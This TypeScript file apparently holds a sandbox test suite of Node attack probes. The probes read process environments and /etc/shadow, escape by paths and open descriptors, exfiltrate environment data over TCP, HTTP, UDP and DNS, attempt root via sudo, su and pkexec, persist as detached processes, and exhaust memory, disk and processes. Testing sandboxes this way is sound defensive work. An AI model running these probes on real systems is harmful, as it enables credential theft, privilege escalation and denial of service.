/**
 * Programs that mean harm. Each is the body of an async function in a plain node, with `target` (`Target`), `say` for what
 * it read, `got` for what it is sure of, and Node's modules by name. None does harm where nothing holds it: signals go to
 * a process that was made for them, and settings of the system are opened and not written.
 */
export const attacks: Record<string, string> = {
  'reads the environment of its parents': `
    for (let pid = process.ppid; pid > 1; pid = Number(fs.readFileSync('/proc/' + pid + '/stat', 'utf8').split(' ')[3]))
      attempt(() => say(fs.readFileSync('/proc/' + pid + '/environ', 'latin1')))
    for (const pid of [1, process.ppid]) say(fs.readFileSync('/proc/' + pid + '/environ', 'latin1'))`,
  'reads the environment and the arguments of every process': `
    for (const pid of fs.readdirSync('/proc').filter(name => /^\\d+$/.test(name)))
      for (const file of ['environ', 'cmdline', 'fd', 'root', 'cwd', 'maps'])
        attempt(() => say(file === 'fd' ? fs.readdirSync('/proc/' + pid + '/fd').map(fd => fs.readlinkSync('/proc/' + pid + '/fd/' + fd)) : file === 'root' || file === 'cwd' ? fs.readdirSync('/proc/' + pid + '/' + file) : fs.readFileSync('/proc/' + pid + '/' + file, 'latin1')))`,
  'reads the memory of a process outside': `
    attempt(() => { fs.closeSync(fs.openSync('/proc/' + target.victim + '/mem', 'r+')); got('the memory of a process outside') })`,
  'reads files outside': `
    for (const file of [target.secret, target.home + '/secret', '/etc/shadow', '/etc/passwd', '/root/.bashrc', '/var/run/docker.sock', target.repository + '/package.json'])
      attempt(() => say(fs.readFileSync(file, 'utf8')))
    for (const folder of ['/home', '/root', '/run', '/etc', '/var', '/usr', '/tmp', path.dirname(target.secret)]) attempt(() => say(folder, fs.readdirSync(folder)))`,
  'climbs out by relative paths and links of the system': `
    const up = '../'.repeat(40)
    for (const start of ['.', '/proc/self/root', '/proc/self/cwd', '/proc/1/root', '/proc/1/cwd', '/proc/self/fd/3', '/proc/self/fd/4', '/old', '/proc/self/fd'])
      attempt(() => say(fs.readFileSync(start + '/' + up + target.secret, 'utf8')))
    attempt(() => { process.chdir('/old'); say(fs.readdirSync('.')) })
    attempt(() => { process.chdir(up); say(fs.readFileSync('.' + target.secret, 'utf8')) })`,
  'uses descriptors that were left open': `
    for (const fd of fs.readdirSync('/proc/self/fd').map(Number).filter(fd => fd > 2))
      attempt(() => { say(fd, fs.readlinkSync('/proc/self/fd/' + fd)); say(fs.readdirSync('/proc/self/fd/' + fd)); say(fs.readFileSync('/proc/self/fd/' + fd + '/secret', 'utf8')) })`,
  'writes files outside': `
    for (const folder of [path.dirname(target.secret), target.home, target.repository, '/', '/etc', '/var/tmp', '/root', '/run', '/usr/lib'])
      attempt(() => fs.writeFileSync(folder + '/' + target.mark, 'x'))
    attempt(() => fs.writeFileSync(target.secret, 'overwritten'))
    attempt(() => fs.rmSync(path.dirname(target.secret), { recursive: true }))`,
  'leaves files where all may write': `
    for (const folder of [target.temporary, '/dev/shm', '/dev/mqueue', '/var/tmp']) attempt(() => fs.writeFileSync(folder + '/' + target.mark, 'x'))`,
  'links to files outside': `
    attempt(() => { fs.symlinkSync(target.secret, 'soft'); say(fs.readFileSync('soft', 'utf8')); fs.writeFileSync('soft', 'overwritten') })
    attempt(() => { fs.linkSync(target.secret, 'hard'); say(fs.readFileSync('hard', 'utf8')); fs.writeFileSync('hard', 'overwritten') })
    attempt(() => fs.cpSync(path.dirname(target.secret), 'copied', { recursive: true }) || say(fs.readFileSync('copied/secret', 'utf8')))`,
  'overwrites the node that runs it': `
    for (const file of ['/proc/self/exe', process.execPath, '/proc/1/exe']) attempt(() => { fs.closeSync(fs.openSync(file, 'r+')); got(file + ' to write') })`,
  'opens a database outside': `
    const { DatabaseSync } = require('node:sqlite')
    attempt(() => { const db = new DatabaseSync(path.dirname(target.secret) + '/' + target.mark + '.db'); db.exec('create table t (a)') })
    attempt(() => { const db = new DatabaseSync(':memory:'); db.exec("attach '" + path.dirname(target.secret) + '/' + target.mark + "2.db' as x; create table x.t (a)") })`,
  'lets V8 write files': `
    attempt(() => { v8.setFlagsFromString('--logfile=' + path.dirname(target.secret) + '/' + target.mark + '.log'); v8.setFlagsFromString('--log-all'); v8.setFlagsFromString('--prof'); new Function('return 1')() })
    attempt(() => v8.writeHeapSnapshot(path.dirname(target.secret) + '/' + target.mark + '.heapsnapshot'))
    attempt(() => process.report.writeReport(path.dirname(target.secret) + '/' + target.mark + '.json'))
    attempt(() => { v8.setHeapSnapshotNearHeapLimit(1) })`,
  'connects by TCP': `
    for (const host of target.addresses) await settle(done => net.connect(target.tcp, host, function () { this.end('CONNECTED ' + env); setTimeout(done, 100) }).on('error', done))`,
  'connects by the binding of Node itself': `
    const { TCP, TCPConnectWrap, constants } = process.binding('tcp_wrap')
    for (const host of target.addresses) { const socket = new TCP(constants.SOCKET); const request = new TCPConnectWrap(); await settle(done => { request.oncomplete = done; const failed = socket.connect(request, host, target.tcp); if (failed) done(failed) }) }`,
  'asks by HTTP and fetch': `
    for (const host of target.addresses) await settle(done => http.get('http://' + host + ':' + target.tcp + '/' + env, done).on('error', done))
    for (const host of target.addresses) await fetch('http://' + host + ':' + target.tcp).catch(() => {})`,
  'sends datagrams': `
    for (const host of target.addresses) await settle(done => dgram.createSocket('udp4').send('DATAGRAM ' + env, target.udp, host, done))`,
  'asks a DNS server': `
    const resolver = new dns.promises.Resolver({ timeout: 200, tries: 1 })
    for (const host of target.addresses) { resolver.setServers([host + ':' + target.udp]); await resolver.resolve4('leak.example').catch(() => {}) }
    await dns.promises.lookup('leak.example').catch(() => {})`,
  'reaches sockets in the file system and without a name': `
    for (const name of [target.socket, '\\0' + target.abstract, '/var/run/docker.sock', '/run/dbus/system_bus_socket', '/run/systemd/private'])
      await settle(done => net.connect({ path: name }, function () { this.end('CONNECTED ' + name); got('a socket at ' + name); setTimeout(done, 100) }).on('error', done))`,
  'listens where others can connect': `
    await settle(done => net.createServer().listen(path.dirname(target.secret) + '/' + target.mark + '.sock', done).on('error', done))
    await settle(done => net.createServer(() => got('a visitor')).listen(target.free, '0.0.0.0', done).on('error', done))
    await new Promise(done => setTimeout(done, 700))`,
  'reads files outside by other ways of Node': `
    await fs.promises.readFile(target.secret, 'utf8').then(say, () => {})
    await settle(done => fs.createReadStream(target.secret).on('data', chunk => say(String(chunk))).on('error', done).on('close', done))
    await fs.openAsBlob(target.secret).then(blob => blob.text()).then(say, () => {})`,
  'reads files outside from a program and a thread that it starts': `
    const read = file => 'process.stdout.write(require("fs").readFileSync(' + JSON.stringify(file) + ', "utf8"))'
    attempt(() => say(childProcess.spawnSync(process.execPath, ['-e', read(target.secret)], { timeout: 5000 }).stdout))
    await settle(done => { const thread = new (require('worker_threads').Worker)('require("worker_threads").parentPort.postMessage(require("fs").readFileSync(' + JSON.stringify(target.secret) + ', "utf8"))', { eval: true }); thread.on('message', text => { say(text); done() }).on('error', done) })`,
  'watches files outside': `
    attempt(() => { fs.watch(path.dirname(target.secret)).close(); got('a watch of a folder outside') })`,
  'connects from a program that it starts': `
    for (const host of target.addresses) attempt(() => childProcess.spawnSync(process.execPath, ['-e', 'require("net").connect(' + target.tcp + ', "' + host + '", function () { this.end("CONNECTED") }).on("error", () => {})'], { timeout: 5000 }))`,
  'connects from a thread': `
    for (const host of target.addresses) await settle(done => { const thread = new (require('worker_threads').Worker)('require("net").connect(' + target.tcp + ', "' + host + '", function () { this.end("CONNECTED") }).on("error", () => {})', { eval: true }); thread.on('exit', done).on('error', done) })`,
  'sees the network of the machine': `
    attempt(() => { if (Object.keys(os.networkInterfaces()).length > 0) got('the addresses of the machine') })`,
  'signals processes outside': `
    for (const pid of [target.victim, -target.victim, process.ppid])
      for (const signal of ['SIGUSR1', 'SIGTERM', 'SIGKILL']) attempt(() => process.kill(pid, signal))
    attempt(() => process.kill(0, 'SIGUSR2'))`,
  'opens a debugger in processes outside': `
    for (const pid of [target.victim, process.ppid]) attempt(() => process._debugProcess(pid))`,
  'becomes root': `
    attempt(() => { process.setgid(0); process.setgroups([0]); process.setuid(0); say(fs.readFileSync('/etc/shadow', 'utf8')) })
    for (const command of [['sudo', '-n', 'cat', target.secret], ['su', '-c', 'cat ' + target.secret], ['pkexec', 'cat', target.secret], ['/sbin/setpriv', '--reuid=0', '--', process.execPath, '-e', 'process.stdout.write(fs.readFileSync(' + JSON.stringify(target.secret) + '))']])
      attempt(() => say(childProcess.spawnSync(command[0], command.slice(1), { timeout: 2000 }).stdout))`,
  'mounts and makes namespaces of its own': `
    for (const command of [['mount', '-t', 'tmpfs', 'x', '/tmp'], ['/sbin/umount', '-l', '/tmp'], ['/sbin/umount', '/proc'], ['/old/usr/bin/unshare', '--user', '--map-root-user', 'true'], ['unshare', '-Urm', 'true'], ['chroot', '/proc/1/root', 'true']])
      attempt(() => { const { status } = childProcess.spawnSync(command[0], command.slice(1), { timeout: 2000 }); if (status === 0) got(command.join(' ')) })`,
  'changes settings of the system': `
    for (const file of ['/proc/sys/kernel/core_pattern', '/proc/sys/kernel/modprobe', '/proc/sysrq-trigger', '/sys/fs/cgroup/release_agent', '/dev/kmsg', '/dev/mem', '/dev/sda', '/proc/sys/vm/drop_caches'])
      attempt(() => { fs.closeSync(fs.openSync(file, 'r+')); got(file + ' to write') })
    attempt(() => { os.setPriority(0, -20); got('a higher priority') })`,
  'dumps its memory to the disk': `
    childProcess.spawnSync(process.execPath, ['-e', 'process.chdir(' + JSON.stringify(path.dirname(target.secret)) + ')\\nprocess.abort()'])
    childProcess.spawnSync(process.execPath, ['-e', 'process.abort()'])
    attempt(() => { const cores = fs.readdirSync('.').filter(name => name.startsWith('core')); if (cores.length > 0) got('a dump of memory') })`,
  'lives on when its process has ended': `
    const program = 'process.on("SIGTERM", () => {}); process.title = ' + JSON.stringify(target.mark) + '; setInterval(() => { try { require("fs").writeFileSync(' + JSON.stringify(path.dirname(target.secret) + '/' + target.mark) + ', "x") } catch {} }, 50)'
    const double = 'require("child_process").spawn(process.execPath, ["-e", ' + JSON.stringify(program) + ', ' + JSON.stringify(target.mark) + '], { detached: true, stdio: "ignore" }).unref()'
    childProcess.spawn(process.execPath, ['-e', double], { detached: true, stdio: 'ignore' }).unref()
    childProcess.spawn(process.execPath, ['-e', program, target.mark], { detached: true, stdio: 'ignore' }).unref()
    await new Promise(done => setTimeout(done, 300))`,
  'ends when it wants to': `
    process.on('SIGTERM', () => {}); process.on('uncaughtException', () => {})
    for (;;) try { for (;;); } catch {}`,
  'starts processes without end': `
    let started = 0
    for (; started < 200; started++) { const child = childProcess.spawn(process.execPath, ['-e', 'setTimeout(() => {}, 20000)'], { stdio: 'ignore' }); child.on('error', () => {}); if (child.pid === undefined) break }
    if (started >= 64) got(started + ' processes')
    say(started + ' processes')`,
  'takes all memory': `
    const held = []
    attempt(() => { for (; held.length < 96;) held.push(Buffer.alloc(32 << 20, 1)) })
    if (held.length > 64) got(held.length * 32 + ' MiB of memory')`,
  'fills the disk': `
    let written = 0
    for (const folder of ['.', os.tmpdir(), '/tmp', '/dev', '/files', '/'])
      attempt(() => { for (let index = 0; written < 512; index++) { fs.writeFileSync(folder + '/' + target.mark + index, Buffer.alloc(16 << 20, 1)); written += 16 } })
    if (written > 256) got(written + ' MiB of disk')`,
  'fills the disk with nothing but names': `
    let made = 0
    attempt(() => { for (; made < 20000; made++) fs.writeFileSync('./name' + made, '') })
    if (made > 16384) got(made + ' names')`,
  'opens files without end': `
    let opened = 0
    attempt(() => { for (; opened < 5000; opened++) fs.openSync('/dev/null', 'r') })
    if (opened > 1024) got(opened + ' open files')`,
  'prints without end': `
    for (const fd of [1, 2]) attempt(() => { for (;;) { try { fs.writeSync(fd, 'x'.repeat(65535) + '\\n') } catch (error) { if (error.code !== 'EAGAIN') throw error } } })`,
  'tells events without end': `
    const line = JSON.stringify({ fact: 'blocked', what: 'x', frames: [] }) + '\\n'
    attempt(() => { for (;;) { try { fs.writeSync(4, line.repeat(1000)) } catch (error) { if (error.code !== 'EAGAIN') throw error } } })`,
}
